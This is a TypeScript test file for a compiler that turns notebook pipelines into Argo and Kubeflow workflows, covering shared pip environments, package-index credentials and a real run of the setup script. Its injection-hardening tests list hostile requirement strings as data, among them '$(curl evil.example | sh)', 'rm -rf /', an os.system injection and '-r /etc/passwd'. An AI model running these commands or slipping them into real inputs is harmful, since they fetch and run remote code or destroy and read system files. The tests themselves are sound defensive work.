import { spawnSync } from 'child_process';
import { existsSync, mkdirSync, readdirSync, statSync, writeFileSync } from 'fs';
import { join } from 'path';
import type { PackageIndex } from '../../notebook';
import type { Pipeline, StepEnvironment } from '../../pipeline';
import { argoYaml, compileArgo, ARGO_SETUP_TASK, type ArgoTemplate, type ArgoWorkflow } from '../argo';
import { validateArgoWorkflow } from '../argo/validate';
import { compileKfp, kfpYaml, KFP_SETUP_TASK, type KfpPipeline } from '../kfp';
import { compileStepScripts } from '../stepScript';
import {
  golden,
  HOSTILE_STRINGS,
  pipelineOf,
  pythonCompileErrors,
  withoutRuntimeId,
  withPayloadsUnpacked,
  withTempDir
} from './__fixtures__/pipelines';
import { DATA_MOUNT_PATH, DEFAULT_STEP_IMAGE } from './options';
import { ENVIRONMENT_ANNOTATION, ENVIRONMENTS_ANNOTATION, environmentId, environmentPath, fnv1a64, planEnvironments } from './environments';
import { CompileDiagnostics } from './diagnostics';
import { setupScript } from './setupScript';
import { packStepScripts } from './stepPayload';

type Json = Record<string, any>; // eslint-disable-line @typescript-eslint/no-explicit-any -- walking compiled documents

const VENV_PYTHON = join(__dirname, '..', '..', '..', '..', '.venv', 'bin', 'python');
const PYTHON = existsSync(VENV_PYTHON) ? VENV_PYTHON : 'python3';

const cell = (tags: string[], source: string): object => ({ cell_type: 'code', metadata: { tags }, source, outputs: [], execution_count: null });

/** load -> (train, report) in parallel, and plain; environments set as the pipeline stage would. */
function pipelineWith(
  environments: Record<string, StepEnvironment | null | undefined>,
  packageIndex: Partial<PackageIndex> = {},
  extraTags: Record<string, string[]> = {}
): Pipeline {
  const pipeline = pipelineOf({
    nbformat: 4,
    nbformat_minor: 5,
    metadata: {},
    cells: [
      cell(['step:load', ...(extraTags.load ?? [])], 'data = [1, 2]'),
      cell(['step:train', ...(extraTags.train ?? [])], 'model = sum(data)'),
      cell(['step:report', ...(extraTags.report ?? [])], 'print(len(data))'),
      cell(['step:plain', ...(extraTags.plain ?? [])], 'x = 1')
    ]
  });
  return {
    ...pipeline,
    settings: { ...pipeline.settings, packageIndex: { indexUrl: null, extraIndexUrls: [], trustedHosts: [], secret: null, ...packageIndex } },
    steps: pipeline.steps.map(step => (step.id in environments ? { ...step, environment: environments[step.id] } : step))
  };
}

const SHARED = { requirements: ['numpy==2.4.6'] };
const TRAIN = { requirements: ['scikit-learn==1.9.1', 'numpy==2.4.6'] };
const standard = (index: Partial<PackageIndex> = {}): Pipeline =>
  pipelineWith({ load: SHARED, train: TRAIN, report: { ...SHARED }, plain: null }, index);

const template = (wf: ArgoWorkflow, name: string): ArgoTemplate => wf.spec.templates.find(t => t.name === name)!;
const envOf = (t: ArgoTemplate, name: string): string | undefined => t.script!.env!.find(e => e.name === name)?.value;
const kfpExecutor = (result: KfpPipeline, task: string): Json => (result.pipelineSpec as Json).deploymentSpec.executors[`exec-${task}`];
const kfpPlatform = (result: KfpPipeline, task: string): Json =>
  (result.platformSpec as Json).platforms.kubernetes.deploymentSpec.executors[`exec-${task}`];

/** The setup source without the runtime file's text: the part a reviewer reads. */
function installPart(source: string): string {
  const lines = source.split('\n');
  const at = lines.findIndex(line => line.startsWith("print('[cellpipe] step runtime and scripts written"));
  return ['<the setup script up to the step files written>', ...lines.slice(at + 1)].join('\n');
}

/** Evaluates the literal assigned to `name` in a Python source with ast.literal_eval. */
function pythonLiteral(source: string, name: string): unknown {
  const program = [
    'import ast, json, sys',
    'tree = ast.parse(sys.stdin.read())',
    'for node in tree.body:',
    '    if isinstance(node, ast.Assign) and getattr(node.targets[0], "id", None) == sys.argv[1]:',
    '        print(json.dumps(ast.literal_eval(node.value)))'
  ].join('\n');
  const result = spawnSync('python3', ['-c', program, name], { input: source, encoding: 'utf8' });
  if (result.status !== 0) {
    throw new Error(result.stderr);
  }
  return JSON.parse(result.stdout);
}

describe('environment ids', () => {
  it('are FNV-1a 64 (its published test vectors)', () => {
    expect(fnv1a64('')).toBe('cbf29ce484222325');
    expect(fnv1a64('a')).toBe('af63dc4c8601ec8c');
    expect(fnv1a64('foobar')).toBe('85944171f73967e8');
  });

  it('depend on the image, the python command, the requirements as a set and the index settings', () => {
    const index: PackageIndex = { indexUrl: null, extraIndexUrls: [], trustedHosts: [], secret: null };
    const runtime = { image: DEFAULT_STEP_IMAGE, python: 'python3' };
    const id = environmentId(runtime, ['b==1', 'a==2'], index);
    expect(id).toMatch(/^[0-9a-f]{16}$/);
    expect(environmentId(runtime, ['a==2', 'b==1'], index)).toBe(id);
    expect(environmentId({ ...runtime, image: 'python:3.11-slim' }, ['a==2', 'b==1'], index)).not.toBe(id);
    expect(environmentId({ ...runtime, python: 'python' }, ['a==2', 'b==1'], index)).not.toBe(id);
    expect(environmentId(runtime, ['a==2', 'b==1', 'c'], index)).not.toBe(id);
    expect(environmentId(runtime, ['a==2', 'b==1'], { ...index, indexUrl: 'https://pypi.example/simple' })).not.toBe(id);
    expect(environmentId(runtime, ['a==2', 'b==1'], { ...index, secret: 'pypi' })).not.toBe(id);
  });
});

describe('Argo: environments', () => {
  const pipeline = standard();
  const { workflow, diagnostics } = compileArgo(pipeline);
  const plan = planEnvironments(pipeline, { image: DEFAULT_STEP_IMAGE, python: 'python3' }, new CompileDiagnostics());
  const [shared, train] = plan.sets;

  it('installs each distinct set once: steps with the same set share one install', () => {
    expect(plan.sets.map(s => s.requirements)).toEqual([['numpy==2.4.6'], ['numpy==2.4.6', 'scikit-learn==1.9.1']]);
    expect(pythonLiteral(template(workflow, ARGO_SETUP_TASK).script!.source, '_ENVIRONMENTS')).toEqual(plan.sets);
    expect(envOf(template(workflow, 'load'), 'PYTHONPATH')).toBe(`${DATA_MOUNT_PATH}/_cellpipe/envs/${shared.id}`);
    expect(envOf(template(workflow, 'report'), 'PYTHONPATH')).toBe(environmentPath(shared.id));
    expect(envOf(template(workflow, 'train'), 'PYTHONPATH')).toBe(environmentPath(train.id));
  });

  it('shows what it installs: a JSON annotation on the setup template, the id on each step template', () => {
    expect(JSON.parse(template(workflow, ARGO_SETUP_TASK).metadata!.annotations![ENVIRONMENTS_ANNOTATION])).toEqual({
      [shared.id]: ['numpy==2.4.6'],
      [train.id]: ['numpy==2.4.6', 'scikit-learn==1.9.1']
    });
    expect(template(workflow, 'load').metadata!.annotations).toEqual({ [ENVIRONMENT_ANNOTATION]: shared.id });
    expect(template(workflow, 'train').metadata!.annotations).toEqual({ [ENVIRONMENT_ANNOTATION]: train.id });
  });

  it('gives a step with environment null (its image holds everything) no PYTHONPATH and no annotation', () => {
    expect(envOf(template(workflow, 'plain'), 'PYTHONPATH')).toBeUndefined();
    expect(template(workflow, 'plain').metadata!.annotations).toBeUndefined();
  });

  it('is valid for the Argo schema and says it installs on every run with a fresh claim', () => {
    expect(validateArgoWorkflow(workflow)).toEqual([]);
    expect(diagnostics.map(d => `${d.severity} ${d.code}`)).toEqual(['warning volume-read-write-once', 'info environments-per-run']);
    expect(diagnostics[0].message).toMatch(/setup task installs them on the same volume before any step/);
    const onClaim = compileArgo(pipeline, { volume: { existingClaim: 'shared-data' } }).diagnostics;
    expect(onClaim.map(d => d.code)).toEqual([]);
  });

  it('matches its golden file (UPDATE_GOLDEN=1 rewrites it)', () => {
    const copy = JSON.parse(JSON.stringify(workflow)) as ArgoWorkflow;
    template(copy, ARGO_SETUP_TASK).script!.source = installPart(template(copy, ARGO_SETUP_TASK).script!.source);
    const actual = withoutRuntimeId(argoYaml(copy));
    expect(actual).toBe(golden(join(__dirname, '..', 'argo', '__golden__', 'environments.yaml'), actual));
  });

  it('compiles a pipeline without environments as before: no install code, no annotations, no PYTHONPATH', () => {
    for (const none of [pipelineWith({}), pipelineWith({ load: null, train: null, report: null, plain: null })]) {
      const wf = compileArgo(none).workflow;
      const setup = template(wf, ARGO_SETUP_TASK);
      expect(setup.script!.source).toBe(setupScript({ firstPart: packStepScripts(compileStepScripts(none))[0], parts: 1 }));
      expect(setup.script!.source).not.toMatch(/_ENVIRONMENTS|'pip'|subprocess/);
      expect(setup.metadata!.annotations).toBeUndefined();
      expect(setup.script!.env!.map(e => e.name)).toEqual(['CELLPIPE_DATA_DIR']);
      expect(wf.spec.templates.flatMap(t => t.script?.env ?? []).some(e => e.name === 'PYTHONPATH')).toBe(false);
      expect(compileArgo(none).diagnostics.map(d => d.code)).toEqual(['volume-read-write-once']);
    }
  });

  it('refuses a secret: tag that would replace the PYTHONPATH of a step with an environment', () => {
    const tagged = pipelineWith(
      { load: SHARED, plain: null },
      {},
      { load: ['secret:creds:path:PYTHONPATH'], plain: ['secret:creds:path:PYTHONPATH'] }
    );
    expect(
      compileArgo(tagged)
        .diagnostics.filter(d => d.severity === 'error')
        .map(d => d.message)
    ).toEqual([expect.stringMatching(/^step "load": a secret: tag sets PYTHONPATH/)]);
  });

  it('warns about a step whose own image may have another Python than the setup image', () => {
    const tagged = pipelineWith(
      { load: SHARED, train: TRAIN, plain: SHARED },
      {},
      { train: ['image:pytorch/pytorch:2.9'], plain: ['image:other:1'] }
    );
    const warnings = compileArgo({
      ...tagged,
      steps: tagged.steps.map(s => (s.id === 'plain' ? { ...s, environment: null } : s))
    }).diagnostics.filter(d => d.code === 'environment-image');
    expect(warnings.map(d => d.message)).toEqual([
      expect.stringMatching(/^step "train": its image "pytorch\/pytorch:2.9" differs from the setup image/)
    ]);
  });
});

describe('package index settings and credentials', () => {
  const index = {
    indexUrl: 'https://pypi.example/simple',
    extraIndexUrls: ['https://extra.example/simple'],
    trustedHosts: ['pypi.example'],
    secret: 'pypi-creds'
  };

  it('become pip options in argv and the secret optional env vars on the setup pod, by name only', () => {
    const wf = compileArgo(standard(index)).workflow;
    const setup = template(wf, ARGO_SETUP_TASK);
    expect(pythonLiteral(setup.script!.source, '_PIP_OPTIONS')).toEqual([
      ['--index-url', 'https://pypi.example/simple'],
      ['--extra-index-url', 'https://extra.example/simple'],
      ['--trusted-host', 'pypi.example']
    ]);
    expect(setup.script!.env!.slice(1)).toEqual([
      { name: 'PIP_INDEX_URL', valueFrom: { secretKeyRef: { name: 'pypi-creds', key: 'index-url', optional: true } } },
      { name: 'PIP_EXTRA_INDEX_URL', valueFrom: { secretKeyRef: { name: 'pypi-creds', key: 'extra-index-url', optional: true } } }
    ]);
    // Step pods get no index secret.
    expect(wf.spec.templates.flatMap(t => (t.name === ARGO_SETUP_TASK ? [] : (t.script?.env ?? []))).some(e => e.valueFrom)).toBe(false);
    expect(validateArgoWorkflow(wf)).toEqual([]);

    const kfp = compileKfp(standard(index));
    expect(kfpPlatform(kfp, KFP_SETUP_TASK).secretAsEnv).toEqual([
      { secretName: 'pypi-creds', keyToEnv: [{ secretKey: 'index-url', envVar: 'PIP_INDEX_URL' }], optional: true },
      { secretName: 'pypi-creds', keyToEnv: [{ secretKey: 'extra-index-url', envVar: 'PIP_EXTRA_INDEX_URL' }], optional: true }
    ]);
  });

  it('refuses index URLs with credentials, and their text appears nowhere in the compiled files', () => {
    const leaky = standard({
      indexUrl: 'https://alice:s3cr3t-token@pypi.example/simple',
      extraIndexUrls: ['https://bob:hunter2@extra.example/simple', 'https://ok.example/simple'],
      secret: 'pypi-creds'
    });
    const argo = compileArgo(leaky);
    const kfp = compileKfp(leaky);
    for (const diagnostics of [argo.diagnostics, kfp.diagnostics]) {
      const errors = diagnostics.filter(d => d.code === 'package-index-credentials');
      expect(errors).toHaveLength(2);
      expect(errors.map(d => d.message).join('\n')).not.toMatch(/s3cr3t|hunter2|alice|bob/);
    }
    for (const text of [argoYaml(argo.workflow), kfpYaml(kfp)].map(withPayloadsUnpacked)) {
      expect(text).not.toMatch(/s3cr3t|hunter2|alice|bob/);
      expect(text).toContain('pypi-creds');
      expect(text).toContain('https://ok.example/simple');
    }
  });
});

describe('hostile requirements and index URLs', () => {
  const hostile = [
    ...HOSTILE_STRINGS,
    "numpy==2.4.6'; import os; os.system('id'); '",
    'x\\"; rm -rf / #',
    '$(curl evil.example | sh) ; `id` && echo | tee /tmp/x > /dev/null \' "',
    '{{workflow.parameters.x}}',
    '-r /etc/passwd',
    '--index-url=https://evil.example/simple'
  ];
  const urls = ["https://pypi.example/{{workflow.name}}/'q'", 'https://pypi.example/$(HOME)/"d"\\x', 'https://pypi.example/\nsimple'];

  it('reach pip only as argv data: the script compiles, the literals hold them exactly, Argo finds no template', () => {
    const pipeline = pipelineWith(
      { load: { requirements: hostile }, train: { requirements: hostile.slice(3) }, report: { requirements: [hostile[0]] } },
      { extraIndexUrls: urls, trustedHosts: ['host;id', "a'b"] }
    );
    const { workflow, diagnostics } = compileArgo(pipeline);
    const kfp = compileKfp(pipeline);
    // URLs with '{{' or whitespace are refused (and left out); the others stay data; NUL cannot be argv at all.
    expect(diagnostics.filter(d => d.severity === 'error').map(d => d.message)).toEqual([
      expect.stringMatching(/extra index URL .* is not a URL/),
      expect.stringMatching(/extra index URL .* is not a URL/),
      expect.stringMatching(/^step "load": the requirement .* contains a NUL character/s),
      expect.stringMatching(/^step "train": the requirement .* contains a NUL character/s)
    ]);
    const sources = [template(workflow, ARGO_SETUP_TASK).script!.source, kfpExecutor(kfp, KFP_SETUP_TASK).container.command[2] as string];
    expect(pythonCompileErrors(sources)).toEqual([]);
    for (const source of sources) {
      expect(source).not.toMatch(/\{\{|\$\(/);
      const sets = pythonLiteral(source, '_ENVIRONMENTS') as Array<{ requirements: string[] }>;
      expect(sets.map(s => s.requirements)).toEqual([[...hostile].sort(), [...hostile.slice(3)].sort(), [hostile[0]]]);
      expect(pythonLiteral(source, '_PIP_OPTIONS')).toEqual([
        ['--extra-index-url', 'https://pypi.example/$(HOME)/"d"\\x'],
        ['--trusted-host', 'host;id'],
        ['--trusted-host', "a'b"]
      ]);
      // The requirements follow '--': pip reads none of them as an option.
      expect(source).toContain("_command += _options + _EXTRA_PIP_ARGUMENTS + ['--'] + _requirements");
    }
    // The annotation holds the same requirements, with no '{{' for Argo.
    const annotation = template(workflow, ARGO_SETUP_TASK).metadata!.annotations![ENVIRONMENTS_ANNOTATION];
    expect(annotation).not.toContain('{{');
    expect(Object.values(JSON.parse(annotation))).toEqual([[...hostile].sort(), [...hostile.slice(3)].sort(), [hostile[0]]]);
    expect(validateArgoWorkflow(workflow)).toEqual([]);
  });
});

describe('KFP: environments', () => {
  const pipeline = standard({ indexUrl: 'https://pypi.example/simple', secret: 'pypi-creds' });
  const result = compileKfp(pipeline);
  const plan = planEnvironments(pipeline, { image: DEFAULT_STEP_IMAGE, python: 'python3' }, new CompileDiagnostics());

  it('installs in the setup task, and sets PYTHONPATH in the container env of the steps that have an environment', () => {
    expect(pythonLiteral(kfpExecutor(result, KFP_SETUP_TASK).container.command[2], '_ENVIRONMENTS')).toEqual(plan.sets);
    // What every step's container env has before PYTHONPATH: its events file and the outputs limit.
    const runtime = (stepId: string) => [
      { name: 'CELLPIPE_EVENTS', value: `_cellpipe/${stepId}.events.jsonl` },
      { name: 'CELLPIPE_OUTPUTS_LIMIT', value: '65536' }
    ];
    expect(kfpExecutor(result, 'load').container.env).toEqual([...runtime('load'), { name: 'PYTHONPATH', value: environmentPath(plan.sets[0].id) }]);
    expect(kfpExecutor(result, 'report').container.env).toEqual([
      ...runtime('report'),
      { name: 'PYTHONPATH', value: environmentPath(plan.sets[0].id) }
    ]);
    expect(kfpExecutor(result, 'train').container.env).toEqual([
      ...runtime('train'),
      { name: 'PYTHONPATH', value: environmentPath(plan.sets[1].id) }
    ]);
    expect(kfpExecutor(result, 'plain').container.env).toEqual(runtime('plain'));
    expect(JSON.parse(kfpPlatform(result, KFP_SETUP_TASK).podMetadata.annotations[ENVIRONMENTS_ANNOTATION])).toEqual(
      Object.fromEntries(plan.sets.map(s => [s.id, s.requirements]))
    );
    expect(kfpPlatform(result, 'train').podMetadata).toEqual({ annotations: { [ENVIRONMENT_ANNOTATION]: plan.sets[1].id } });
    expect(kfpPlatform(result, 'plain').podMetadata).toBeUndefined();
  });

  it('compiles a pipeline without environments as before', () => {
    const none = pipelineWith({ load: null });
    const kfp = compileKfp(none);
    expect(kfpExecutor(kfp, KFP_SETUP_TASK).container.command[2]).toBe(
      setupScript({ firstPart: packStepScripts(compileStepScripts(none))[0], parts: 1 })
    );
    expect(kfpPlatform(kfp, KFP_SETUP_TASK)).toEqual({ pvcMount: [expect.anything()] });
  });

  it('matches its golden file (UPDATE_GOLDEN=1 rewrites it)', () => {
    const copy = JSON.parse(JSON.stringify(result)) as KfpPipeline;
    const command = kfpExecutor(copy, KFP_SETUP_TASK).container.command;
    command[2] = installPart(command[2]);
    const actual = withoutRuntimeId(kfpYaml(copy));
    expect(actual).toBe(golden(join(__dirname, '..', 'kfp', '__golden__', 'environments.yaml'), actual));
  });

  it('loads strictly in the kfp SDK (PipelineSpec and KubernetesExecutorConfig protobufs, load and compile again)', () => {
    const check = [
      'import sys, yaml',
      'from google.protobuf import json_format',
      'from kfp import compiler, components',
      'from kfp.kubernetes import kubernetes_executor_config_pb2',
      'from kfp.pipeline_spec import pipeline_spec_pb2',
      'path, again = sys.argv[1], sys.argv[2]',
      'documents = list(yaml.safe_load_all(open(path, encoding="utf-8")))',
      'json_format.ParseDict(documents[0], pipeline_spec_pb2.PipelineSpec())',
      'for config in documents[1]["platforms"]["kubernetes"]["deploymentSpec"]["executors"].values():',
      '    json_format.ParseDict(config, kubernetes_executor_config_pb2.KubernetesExecutorConfig())',
      'component = components.load_component_from_file(path)',
      'assert component.pipeline_spec.schema_version == "2.1.0"',
      'env = component.pipeline_spec.deployment_spec["executors"]["exec-train"]["container"]["env"]',
      'assert env[2]["name"] == "PYTHONPATH", env',
      'compiler.Compiler().compile(component, again)',
      'print("ok")'
    ].join('\n');
    withTempDir(dir => {
      writeFileSync(join(dir, 'pipeline.yaml'), kfpYaml(result));
      const run = spawnSync(VENV_PYTHON, ['-c', check, join(dir, 'pipeline.yaml'), join(dir, 'again.yaml')], { encoding: 'utf8' });
      expect(run.stderr).toBe('');
      expect(run.stdout.trim()).toBe('ok');
    });
  });
});

describe('the setup script, run for real on a folder as the volume', () => {
  /** A wheel of a one-module package `cellpipe_tinypkg` written by hand (zip with METADATA, WHEEL, RECORD). */
  function buildWheel(dir: string): void {
    const program = [
      'import base64, hashlib, sys, zipfile',
      'name, version = "cellpipe_tinypkg", "0.1"',
      'files = {',
      '    name + ".py": "VALUE = 42\\n",',
      '    name + "-" + version + ".dist-info/METADATA": "Metadata-Version: 2.1\\nName: cellpipe-tinypkg\\nVersion: " + version + "\\n",',
      '    name + "-" + version + ".dist-info/WHEEL": "Wheel-Version: 1.0\\nGenerator: test\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n",',
      '}',
      'record = name + "-" + version + ".dist-info/RECORD"',
      'def digest(text):',
      '    return "sha256=" + base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).rstrip(b"=").decode()',
      'lines = [path + "," + digest(text) + "," + str(len(text.encode())) for path, text in files.items()] + [record + ",,"]',
      'with zipfile.ZipFile(sys.argv[1] + "/" + name + "-" + version + "-py3-none-any.whl", "w") as wheel:',
      '    for path, text in files.items():',
      '        wheel.writestr(path, text)',
      '    wheel.writestr(record, "\\n".join(lines) + "\\n")'
    ].join('\n');
    const run = spawnSync(PYTHON, ['-c', program, dir], { encoding: 'utf8' });
    expect(run.stderr).toBe('');
  }

  function runSetup(source: string, volume: string, run: string): { status: number | null; log: string } {
    const result = spawnSync(PYTHON, ['-c', source, join(volume, run)], {
      encoding: 'utf8',
      env: { PATH: process.env.PATH ?? '/usr/bin:/bin', HOME: volume, PYTHONNOUSERSITE: '1', PIP_NO_INPUT: '1' }
    });
    return { status: result.status, log: result.stdout + result.stderr };
  }

  it('installs a set once, reuses it on the next run without calling pip, and a step imports from it', () => {
    withTempDir(dir => {
      const wheels = join(dir, 'wheels');
      const volume = join(dir, 'volume');
      mkdirSync(wheels);
      mkdirSync(volume);
      buildWheel(wheels);
      const pipeline = pipelineWith({ load: { requirements: ['cellpipe-tinypkg==0.1'] }, train: { requirements: ['cellpipe-tinypkg==0.1'] } });
      const plan = planEnvironments(pipeline, { image: DEFAULT_STEP_IMAGE, python: 'python3' }, new CompileDiagnostics());
      expect(plan.sets).toHaveLength(1);
      const id = plan.sets[0].id;
      const source = setupScript(
        { firstPart: packStepScripts(compileStepScripts(pipeline))[0], parts: 1 },
        { ...plan, extraPipArguments: ['--no-index', '--find-links', wheels] }
      );

      const first = runSetup(source, volume, 'run-1');
      expect(first.status).toBe(0);
      expect(first.log).toContain(`[cellpipe] environment ${id} requirements: ['cellpipe-tinypkg==0.1']`);
      expect(first.log).toMatch(/Successfully installed cellpipe-tinypkg-0\.1/);
      expect(first.log).toContain(`[cellpipe] environment ${id} installed in`);
      const envs = join(volume, '_cellpipe', 'envs');
      expect(readdirSync(envs)).toEqual([id]); // the temporary folder was renamed, nothing left behind
      // pip's cache is on the volume (a local wheel gives it nothing to keep; a download would).
      expect(source).toContain("_pip_env['PIP_CACHE_DIR'] = os.path.join(_root, '_cellpipe', 'pip-cache')");
      const installedAt = statSync(join(envs, id)).ino;

      const second = runSetup(source, volume, 'run-2');
      expect(second.status).toBe(0);
      expect(second.log).toContain(`[cellpipe] environment ${id} is on the volume already (an earlier run): reused`);
      expect(second.log).not.toMatch(/Processing|Successfully installed|Looking in/);
      expect(statSync(join(envs, id)).ino).toBe(installedAt);

      // A step pod: PYTHONPATH as compiled, with the volume mounted at the temporary folder.
      const pythonPath = environmentPath(id).replace(DATA_MOUNT_PATH, volume);
      const step = spawnSync(PYTHON, ['-c', 'import cellpipe_tinypkg; print(cellpipe_tinypkg.VALUE, cellpipe_tinypkg.__file__)'], {
        encoding: 'utf8',
        env: { PATH: process.env.PATH ?? '/usr/bin:/bin', PYTHONPATH: pythonPath, PYTHONNOUSERSITE: '1' }
      });
      expect(step.stderr).toBe('');
      expect(step.stdout).toBe(`42 ${join(envs, id, 'cellpipe_tinypkg.py')}\n`);
    });
  });

  it('fails the task with pip output and the failed set named, leaves no folder, and runs nothing from hostile requirements', () => {
    withTempDir(dir => {
      const volume = join(dir, 'volume');
      const pwned = join(dir, 'pwned');
      mkdirSync(volume);
      const requirements = [`x; $(touch ${pwned})`, `y'; touch ${pwned}; '`, `-r ${pwned}`, `--index-url=file://${pwned}`];
      const pipeline = pipelineWith({ load: { requirements } });
      const plan = planEnvironments(pipeline, { image: DEFAULT_STEP_IMAGE, python: 'python3' }, new CompileDiagnostics());
      const source = setupScript(
        { firstPart: packStepScripts(compileStepScripts(pipeline))[0], parts: 1 },
        { ...plan, extraPipArguments: ['--no-index'] }
      );
      const run = runSetup(source, volume, 'run-1');
      expect(run.status).toBe(1);
      expect(run.log).toMatch(/ERROR|Invalid requirement/);
      expect(run.log).toContain(`[cellpipe] installing environment ${plan.sets[0].id} failed (pip exit status`);
      expect(readdirSync(join(volume, '_cellpipe', 'envs'))).toEqual([]);
      expect(existsSync(pwned)).toBe(false);
    });
  });
});
